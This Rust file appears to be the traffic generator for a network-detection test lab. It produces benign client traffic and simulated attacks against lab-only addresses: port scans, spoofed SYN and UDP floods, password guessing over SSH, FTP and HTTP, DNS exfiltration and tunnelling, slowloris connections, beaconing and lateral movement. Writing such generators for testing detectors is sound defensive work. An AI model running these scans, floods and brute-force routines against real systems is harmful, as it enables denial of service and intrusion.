//! What runs inside the namespaces: people with ordinary clients, and a small generator for each shape of attack. The test calls
//! itself for them: `lab role NAME ARGUMENTS`.

use crate::raw::{self, Wire};
use socket2::{Domain, Protocol, SockAddr, Socket, Type};
use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddrV4, TcpListener, TcpStream, UdpSocket};
use std::process::{Command, Stdio};
use std::thread::{sleep, spawn};
use std::time::{Duration, Instant};

/// How long everything goes on.
pub(crate) const SECONDS: u64 = 26;

/// An address of the site by its last number.
pub(crate) fn site(host: u8) -> Ipv4Addr {
    Ipv4Addr::new(10, 77, 0, host)
}

/// An address of the world by its last number.
pub(crate) fn world(host: u8) -> Ipv4Addr {
    Ipv4Addr::new(203, 0, 113, host)
}

/// Xorshift.
pub(crate) struct Random(u64);

impl Random {
    pub(crate) fn new(seed: u64) -> Self {
        Self(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1)
    }

    pub(crate) fn below(&mut self, n: u64) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 >> 11) % n
    }

    /// From 0 to 1.
    fn unit(&mut self) -> f64 {
        self.below(1 << 53) as f64 / (1u64 << 53) as f64
    }
}

fn millis(ms: u64) -> Duration {
    Duration::from_millis(ms)
}

/// A connection from an address of ours.
fn connect(from: Ipv4Addr, to: Ipv4Addr, port: u16, patience: Duration) -> std::io::Result<TcpStream> {
    let socket = Socket::new(Domain::IPV4, Type::STREAM, Some(Protocol::TCP))?;
    socket.bind(&SockAddr::from(SocketAddrV4::new(from, 0)))?;
    socket.connect_timeout(&SockAddr::from(SocketAddrV4::new(to, port)), patience)?;
    let stream = TcpStream::from(socket);
    stream.set_read_timeout(Some(Duration::from_secs(10)))?;
    Ok(stream)
}

/// Begins a connection and waits for nothing.
fn knock(from: Ipv4Addr, to: Ipv4Addr, port: u16) -> std::io::Result<Socket> {
    let socket = Socket::new(Domain::IPV4, Type::STREAM, Some(Protocol::TCP))?;
    socket.set_nonblocking(true)?;
    socket.bind(&SockAddr::from(SocketAddrV4::new(from, 0)))?;
    // It says that it is on its way.
    let _ = socket.connect(&SockAddr::from(SocketAddrV4::new(to, port)));
    Ok(socket)
}

/// Says something, hears an answer, hangs up.
fn talk(from: Ipv4Addr, to: Ipv4Addr, port: u16, bytes: &[u8]) {
    if let Ok(mut stream) = connect(from, to, port, Duration::from_secs(5))
        && stream.write_all(bytes).is_ok()
    {
        let _ = stream.shutdown(std::net::Shutdown::Write);
        let _ = stream.read_to_end(&mut Vec::new());
    }
}

/// Runs a client; what it says is of no interest, nor whether it was let in.
fn client(line: &str) {
    let mut words = line.split(' ');
    let mut command = Command::new(words.next().unwrap_or_default());
    command.args(words).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
    let _ = command.status();
}

/// A role by its name; returns when it is played.
pub(crate) fn play(arguments: &[String]) {
    let name = arguments.first().map(String::as_str).unwrap_or_default();
    let rest = arguments.get(1..).unwrap_or_default();
    match name {
        "sink" => sink(rest),
        "people" => people(rest.first().map(String::as_str).unwrap_or_default()),
        "attackers" => attackers(rest.first().map(String::as_str).unwrap_or_default()),
        other => panic!("no role is called {other}"),
    }
}

/// A service that takes everything and answers once; `tunnel` also answers questions of DNS with 400 bytes.
fn sink(arguments: &[String]) {
    let mut threads = Vec::new();
    for word in arguments {
        if word == "tunnel" {
            let socket = UdpSocket::bind((world(53), 53)).expect("the address is ours");
            threads.push(spawn(move || tunnel(&socket)));
        } else {
            let port: u16 = word.parse().expect("a port");
            let listener = TcpListener::bind(("0.0.0.0", port)).expect("the port is free");
            threads.push(spawn(move || {
                for stream in listener.incoming().flatten() {
                    spawn(move || swallow(stream));
                }
            }));
        }
    }
    threads.into_iter().for_each(|thread| drop(thread.join()));
}

fn swallow(mut stream: TcpStream) {
    let mut bytes = vec![0; 1 << 16];
    let mut answered = false;
    while let Ok(1..) = stream.read(&mut bytes) {
        if !std::mem::replace(&mut answered, true) && stream.write_all(&[b'k'; 500]).is_err() {
            return;
        }
    }
}

fn tunnel(socket: &UdpSocket) {
    let mut bytes = [0; 1_500];
    while let Ok((length, from)) = socket.recv_from(&mut bytes) {
        let mut answer = bytes[..length].to_vec();
        if answer.len() < 12 {
            continue;
        }
        (answer[2], answer[3], answer[7]) = (0x84, 0x80, 1);
        answer.extend([0xc0, 12, 0, 10, 0, 1, 0, 0, 0, 0, 1, 0x90]);
        answer.extend([7; 400]);
        let _ = socket.send_to(&answer, from);
    }
}

/// Ordinary clients, each at its own pace, until the time is over. `folder` holds keys and what askpass answers.
fn people(folder: &str) {
    let until = Instant::now() + Duration::from_secs(SECONDS);
    let folder = folder.to_owned();
    let key = format!(
        "-i {folder}/user -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o IdentitiesOnly=yes -o BatchMode=yes"
    );
    // A host, the longest wait between two of its rounds, and what it does in a round.
    type Round = Box<dyn FnMut(u64, &mut Random) + Send>;
    let curl = "curl -s -m 5 -o /dev/null --interface";
    let browse = move |me: u8| -> Round {
        Box::new(move |_, random| {
            let me = site(me);
            client(&format!("dig +short +tries=1 -b {me} @10.77.0.20 site.test"));
            let server = match random.below(3) {
                0 => format!("203.0.113.{}", 20 + random.below(20)),
                1 => "10.77.0.20".to_owned(),
                _ => "10.77.0.25".to_owned(),
            };
            client(&format!("{curl} {me} http://{server}/index.html http://{server}/style.css"));
            match random.below(6) {
                0 => client(&format!("{curl} {me} http://{server}/gone.html")),
                1 => client("curl -6 -s -m 5 -o /dev/null http://[fd77::20]/picture.png"),
                _ => client(&format!("{curl} {me} http://{server}/picture.png")),
            }
        })
    };
    let download: Round = Box::new(move |round, _| {
        let me = site(12);
        if round == 2 {
            client(&format!("{curl} {me} -u somebody:mistyped ftp://10.77.0.20/"));
        }
        client(&format!("{curl} {me} ftp://10.77.0.20/report.txt"));
    });
    let askpass = format!("{folder}/askpass");
    let administer: Round = Box::new(move |round, _| {
        let me = site(13);
        let host = 30 + round % 2;
        client(&format!("ssh {key} -b {me} root@10.77.0.{host} true"));
        if round == 1 {
            // Three tries with a password that is wrong.
            password(&askpass, me, &format!("10.77.0.{host}"));
        }
    });
    let monitor: Round = Box::new(move |_, _| {
        let me = site(14);
        for host in [20, 21, 22] {
            client(&format!("{curl} {me} -I http://10.77.0.{host}/"));
        }
        // The exporter of one host was never set up.
        client(&format!("{curl} {me} http://10.77.0.23:9100/metrics"));
        client(&format!("dig +short +tcp +tries=1 -b {me} @10.77.0.20 txt.site.test TXT"));
    });
    let names: Round = Box::new(move |round, random| {
        let me = site(15);
        for at in 0..6 {
            let name = match at {
                0 => format!("host-{}.site.test", random.below(50)),
                1 => format!("nothing-{round}.test"),
                2 => format!("-x 10.77.0.{}", random.below(200)),
                3 => "file.site.test AAAA".to_owned(),
                4 => format!("a-rather-long-name-of-a-content-network-{round}.site.test"),
                _ => "site.test MX".to_owned(),
            };
            client(&format!("dig +short +tries=1 -b {me} @10.77.0.20 {name}"));
        }
    });
    let upload: Round = Box::new(move |_, random| {
        talk(site(16), world(90), 443, &vec![b'u'; 50_000 + random.below(200_000) as usize]);
    });
    let everybody: [(u64, Round); 7] = [
        (900, browse(10)),
        (1_400, browse(11)),
        (2_500, download),
        (2_500, administer),
        (900, monitor),
        (800, names),
        (3_000, upload),
    ];
    let threads = everybody.into_iter().enumerate().map(|(at, (pause, mut round))| {
        spawn(move || {
            let mut random = Random::new(at as u64 + 1);
            for number in 0.. {
                sleep(millis(pause / 8 + random.below(pause)));
                if Instant::now() >= until {
                    break;
                }
                round(number, &mut random);
            }
        })
    });
    threads.collect::<Vec<_>>().into_iter().for_each(|thread| thread.join().expect("ordinary people"));
}

/// A session of SSH in which every password is refused.
fn password(askpass: &str, from: Ipv4Addr, host: &str) {
    let mut command = Command::new("ssh");
    command.env("SSH_ASKPASS", askpass).env("SSH_ASKPASS_REQUIRE", "force");
    command.args(["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null"]);
    command.args(["-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=3", "-b"]);
    command.arg(from.to_string()).arg(format!("root@{host}")).arg("true");
    let _ = command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).status();
}

/// All attacks at once, each from an address of its own.
fn attackers(folder: &str) {
    let folder = folder.to_owned();
    let askpass = format!("{folder}/askpass");
    let key = format!(
        "-i {folder}/user -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o IdentitiesOnly=yes -o BatchMode=yes"
    );
    let web = site(20);
    let attacks: Vec<Box<dyn FnOnce() + Send>> = vec![
        Box::new(move || {
            // Ports one after the other, as connect() asks.
            (1_000..1_120).for_each(|port| drop(connect(site(101), web, port, millis(200))));
        }),
        Box::new(move || {
            let mut wire = Wire::new();
            (2_000..2_040u16).for_each(|port| wire.tcp(site(102), 40_000 + port, web, port, raw::FIN, 7));
        }),
        Box::new(move || {
            let socket = UdpSocket::bind((site(103), 0)).expect("an address of ours");
            for port in 3_000..3_060 {
                // What comes back as an error is told with the next packet.
                let _ = socket.send_to(b"\0\0\0\0", (web, port));
                sleep(millis(20));
            }
        }),
        Box::new(move || {
            // One port of many hosts, closed on all.
            (1..=60)
                .for_each(|host| drop(connect(site(104), Ipv4Addr::new(10, 77, 1, host), 445, millis(200))));
        }),
        Box::new(move || {
            // Hosts that are not there: nothing but questions of ARP is seen, in turn however busy the machine is.
            let asked: Vec<_> =
                (1..=60).map(|host| knock(site(105), Ipv4Addr::new(10, 77, 2, host), 22)).collect();
            sleep(Duration::from_secs(2));
            drop(asked);
        }),
        Box::new(move || {
            // A flood with made-up sources.
            let (mut wire, mut random) = (Wire::new(), Random::new(5));
            for n in 0..2_000u32 {
                let from = Ipv4Addr::from(0xc612_0000 | random.below(1 << 17) as u32);
                wire.tcp(from, 1_024 + random.below(60_000) as u16, web, 80, raw::SYN, n);
                sleep(Duration::from_micros(500));
            }
        }),
        Box::new(move || {
            // And one with its own.
            let mut wire = Wire::new();
            for n in 0..600u16 {
                wire.tcp(site(106), 20_000 + n, site(21), 8_080, raw::SYN, u32::from(n));
                sleep(millis(5));
            }
        }),
        Box::new(move || (0..6).for_each(|_| password(&askpass, site(107), "10.77.0.22"))),
        Box::new(move || {
            let (socket, mut random) = (UdpSocket::bind((site(108), 0)), Random::new(6));
            let socket = socket.expect("an address of ours");
            for n in 1..=3_000 {
                let _ = socket.send_to(&[0; 64], (site(24), 1_024 + random.below(60_000) as u16));
                if n % 100 == 0 {
                    sleep(millis(20));
                }
            }
        }),
        Box::new(move || {
            let mut wire = Wire::new();
            for n in 0..800 {
                wire.echo(site(109), site(25), n);
                sleep(millis(4));
            }
        }),
        Box::new(move || {
            let threads = (0..14).map(|n| spawn(move || ftp_login(site(110), site(21), n)));
            threads.collect::<Vec<_>>().into_iter().for_each(|thread| drop(thread.join()));
        }),
        Box::new(move || {
            for n in 0..16 {
                let me = site(111);
                client(&format!(
                    "curl -s -m 5 -o /dev/null --interface {me} -u admin:guess{n} http://10.77.0.22/private/"
                ));
            }
        }),
        Box::new(move || {
            // Data in names, through the site's own resolver.
            let mut random = Random::new(7);
            for _ in 0..60 {
                let data = random.below(u64::MAX);
                ask(site(112), web, &format!("{data:016x}{:016x}.x.data.test", !data), 1);
            }
        }),
        Box::new(move || {
            // Packets in names, to a server of one's own outside.
            let mut random = Random::new(8);
            for _ in 0..60 {
                ask(site(113), world(53), &format!("{:012x}.t.tunnel.test", random.below(1 << 48)), 10);
            }
        }),
        Box::new(move || {
            let held: Vec<_> = (0..60).flat_map(|_| connect(site(114), site(23), 80, millis(500))).collect();
            for mut stream in &held {
                let _ = stream.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n");
            }
            sleep(Duration::from_secs(SECONDS - 5));
        }),
        Box::new(move || {
            // What it sends on other days, at no regular times and of no equal size.
            let mut random = Random::new(10);
            for _ in 0..40 {
                sleep(millis(50 + random.below(1_000)));
                talk(site(121), world(60), 443, &vec![b'h'; 5_000 + random.below(60_000) as usize]);
            }
        }),
        Box::new(move || {
            sleep(Duration::from_secs(SECONDS - 4));
            talk(site(121), world(66), 443, &vec![b'z'; 30_000_000]);
        }),
        Box::new(move || {
            // One host for the better part of an hour, then nine others, whether a login takes long or not.
            let visit = |host: u8| format!("ssh {key} -b {} root@{} true", site(122), site(host));
            rounds(4, 4_000, |_| client(&visit(30)));
            let mut visits = Vec::new();
            rounds(9, 150, |round| {
                let line = visit(31 + round as u8);
                visits.push(spawn(move || client(&line)));
            });
            visits.into_iter().for_each(|visit| drop(visit.join()));
        }),
        Box::new(move || {
            // Calls home with a jitter of a third either way.
            let mut random = Random::new(9);
            for _ in 0..28 {
                sleep(Duration::from_secs_f64(0.4 + 0.4 * random.unit()));
                talk(site(123), world(77), 443, &[b'b'; 300]);
            }
        }),
        Box::new(move || rounds(130, 150, |_| drop(connect(site(124), world(78), 9_999, millis(100))))),
        Box::new(move || {
            // A controller that reads two services, and one day another.
            rounds(44, 500, |_| {
                talk(site(125), site(27), 502, b"read");
                talk(site(125), site(28), 502, b"read");
            });
            talk(site(125), site(29), 4_444, b"hello");
        }),
        Box::new(move || {
            // A scan with a minute between two ports.
            (5_000..5_040u16).for_each(|port| {
                drop(connect(site(126), site(29), port, millis(100)));
                sleep(millis(300));
            });
        }),
    ];
    let threads: Vec<_> = attacks.into_iter().map(spawn).collect();
    threads.into_iter().for_each(|thread| thread.join().expect("an attack"));
}

/// So many rounds, so long apart.
fn rounds(count: u64, apart_ms: u64, mut round: impl FnMut(u64)) {
    let start = Instant::now();
    for number in 0..count {
        sleep((start + millis(number * apart_ms)).saturating_duration_since(Instant::now()));
        round(number);
    }
}

/// A login that is refused.
fn ftp_login(from: Ipv4Addr, server: Ipv4Addr, guess: u32) {
    let Ok(mut stream) = connect(from, server, 21, Duration::from_secs(5)) else { return };
    let mut bytes = [0; 512];
    for line in ["", "USER root\r\n", &format!("PASS guess{guess}\r\n"), "QUIT\r\n"] {
        if stream.write_all(line.as_bytes()).is_err() || stream.read(&mut bytes).is_err() {
            return;
        }
    }
}

/// A question of DNS, and its answer if there is one.
fn ask(from: Ipv4Addr, server: Ipv4Addr, name: &str, kind: u16) {
    let socket = UdpSocket::bind((from, 0)).expect("an address of ours");
    let mut query = vec![0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        query.push(label.len() as u8);
        query.extend(label.as_bytes());
    }
    query.push(0);
    query.extend(kind.to_be_bytes());
    query.extend([0, 1]);
    let _ = socket.set_read_timeout(Some(millis(500)));
    let _ = socket.send_to(&query, (server, 53));
    let _ = socket.recv(&mut [0; 1_500]);
}
